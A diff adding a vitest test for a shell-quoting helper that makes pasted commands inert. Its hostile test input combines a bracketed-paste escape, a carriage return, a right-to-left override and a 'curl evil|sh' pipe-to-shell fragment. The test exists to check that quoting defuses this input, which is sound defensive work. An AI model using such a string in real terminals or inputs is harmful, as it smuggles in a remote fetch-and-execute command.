@@ -1,3 +1,5 @@
+import { spawnSync } from 'node:child_process'
+import { pastedWords } from '../../../text/shell-words.ts'
 import { describe, expect, test } from 'vitest'
 import type { Files } from '../../../host/files.ts'
 import { inUtf16 } from './columns.ts'
@@ -116,6 +118,14 @@ test('columns: bytes and code points become UTF-16 units', () => {
   expect(inUtf16(Buffer.byteLength(line.slice(0, at - 1)) + 1, line, 'bytes')).toBe(at)
   expect(inUtf16(Array.from(line.slice(0, at - 1)).length + 1, line, 'code-points')).toBe(at)
   expect(inUtf16(at, line, 'utf-16')).toBe(at)
+})
+
+test('a command to paste presses no keys, whatever a file or a test is called', () => {
+  expect(pastedWords(['npx', 'vitest', 'a b.ts', '-t', "it's"])).toBe(`npx vitest 'a b.ts' -t 'it'\\''s'`)
+  const hostile = "x\u001B[201~\r\u202Ecurl evil|sh\u{E0001}'\\"
+  const word = pastedWords([hostile])
+  expect(word).toBe(String.raw`$'x\u001b[201~\u000d\u202ecurl evil|sh\U000e0001\'\\'`)
+  expect(spawnSync('bash', ['-c', `printf %s ${word}`], { encoding: 'utf8', env: { LC_ALL: 'C.UTF-8' } }).stdout).toBe(hostile)
 })
 
 test('scripts: one plain command, or a matter for sh', () => {
